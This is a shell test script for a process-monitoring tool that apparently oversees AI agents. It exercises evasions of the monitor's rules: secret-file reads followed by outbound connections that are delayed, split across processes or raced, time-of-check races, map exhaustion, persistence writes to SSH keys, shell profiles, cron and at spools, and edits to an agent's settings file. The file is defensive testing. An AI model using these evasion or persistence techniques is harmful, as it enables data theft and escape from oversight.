#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Evasions, as tests/live/README.md lists them, of what rules remember and of when they look:
# sequences that are stretched or split, arguments that change while they are looked at, and
# acts between a verdict and its end.

# shellcheck source=tests/live/evasions.sh
. tests/live/evasions.sh

# stopped SCRIPT: which reads $place/secret and connects outside; it is killed before anything
# arrives. Unwatched, something does.
stopped() {
	chain_rules
	receiver_start
	sh -c "$1" >"$place/unwatched" 2>&1
	expect_received 1 6
	watch -- sh -c "$1"
	expect_received 1 6
	expect_status 137
	expect_alert secret_then_outside '.fermata.verdict == "killed"' '.fermata.response.condemned'
}

test_slow_sequence() {
	stopped "cat $place/secret; sleep 3; $SUBJECTS/send connect $outside $port"
}

# In two processes that have nothing to do with each other but their session.
test_split_sequence() {
	stopped "(cat $place/secret & wait); (setsid $SUBJECTS/send connect $outside $port & wait)"
}

test_child_sequence() {
	stopped "cat $place/secret; $SUBJECTS/send connect $outside $port grandchild"
}

# The one thread connects as soon as the other has opened it.
test_parallel_threads() {
	stopped "$SUBJECTS/race sequence 1 $place/secret $outside $port"
}

test_toctou_open() {
	secret_make
	echo harmless >"$place/guarded/public"
	refused_racing 'TargetFilename|endswith' /secret open "$place/guarded/public" "$place/guarded/secret"
	trampolines || refused_racing TargetFilename "$place/guarded/secret" \
		open "$place/guarded/public" "$place/guarded/secret"
}

test_toctou_exec() {
	local category=process_creation
	cp "$(type -P true)" "$place/guarded"
	cp "$(type -P false)" "$place/harmful"
	mv "$place/harmful" "$place/another"
	refused_racing Image "$place/guarded" exec "$place/another" "$place/guarded"
}

test_toctou_connect() {
	local category=network_connection
	network_up
	refused_racing DestinationIp "$outside" connect 127.0.0.1 "$outside"
}

# Among many processes that are there at the same time, the last is an agent's as well.
test_map_exhaust() {
	secret_make
	refused "$place/guarded/secret" 1 "$SUBJECTS/evade" crowd "$place/guarded/secret" 1500
}

# By another member, at the moment at which the one that did it is gone.
test_signal_race() {
	local i
	receiver_start
	echo "the secret" >"$place/secret"
	"$SUBJECTS/race" signal 1 "$place/secret" "$outside" "$port" >"$place/unwatched"
	expect_received 1 6
	rule ends file_open kill-agent TargetFilename "$place/secret"
	rule tells network_connection alert DestinationIp "$outside"
	for i in {1..5}; do
		step "$i"
		alerts_forget
		watch -- "$SUBJECTS/race" signal 1 "$place/secret" "$outside" "$port"
		expect_status 137
		expect_alert ends '.fermata.verdict == "killed"' '.fermata.response.condemned'
		expect_received 1 6
	done
}

# The shipped rules on what is executed or obeyed later, by somebody else.
test_write_then_trigger() {
	local rules=rules/persistence name home=$place/home names=(.ssh/authorized_keys .bashrc .profile
		.config/systemd/user/x.service .config/autostart/x.desktop project/.git/hooks/pre-commit)
	local agent=rules/guardrail-bypass/agent_settings_written.yml
	for name in "${names[@]}"; do
		mkdir -p "$home/$(dirname "$name")"
	done
	watch -- sh -c "cd $home; for name in ${names[*]}; do (echo x >>\$name); done"
	look
	ask_number "files that are told" "${#names[@]}" 'map(.file.path) | unique | length'
	ask "the keys" "any(.file.path == \"$home/.ssh/authorized_keys\" and
		(.fermata.verdict | test(\"^(denied|killed)$\")))"
	same "what was written into the keys" "" "$(cat "$home/.ssh/authorized_keys" 2>/dev/null)"
	rules=$agent
	alerts_forget
	mkdir -p "$home/.claude"
	watch -- sh -c "echo x >>$home/.claude/settings.json"
	look
	ask "an agent's settings" "any(.file.path == \"$home/.claude/settings.json\")"
}

test_delegate_cron() {
	local rules=rules/persistence
	mkdir -p /etc/cron.d
	check "a tmpfs is mounted" mount -t tmpfs none /etc/cron.d
	check "a tmpfs is mounted" mount -t tmpfs none /var/spool
	mkdir /var/spool/cron
	watch -- sh -c 'echo "* * * * * root true" >/etc/cron.d/job; echo "* * * * * true" >/var/spool/cron/root'
	umount /etc/cron.d /var/spool
	look
	ask "files that are told" 'map(.file.path) | unique == ["/etc/cron.d/job", "/var/spool/cron/root"]'
}

# Where at(1) leaves what it is to do: on Debian among the files of cron.
test_delegate_at() {
	local rules=rules/persistence
	check "a tmpfs is mounted" mount -t tmpfs none /var/spool
	mkdir -p /var/spool/cron/atjobs /var/spool/at
	watch -- sh -c 'echo true >/var/spool/cron/atjobs/a0000101b3c0a2; echo true >/var/spool/at/a0000101b3c0a2'
	umount /var/spool
	look
	ask "files that are told" 'map(.file.path) | unique ==
		["/var/spool/at/a0000101b3c0a2", "/var/spool/cron/atjobs/a0000101b3c0a2"]'
}
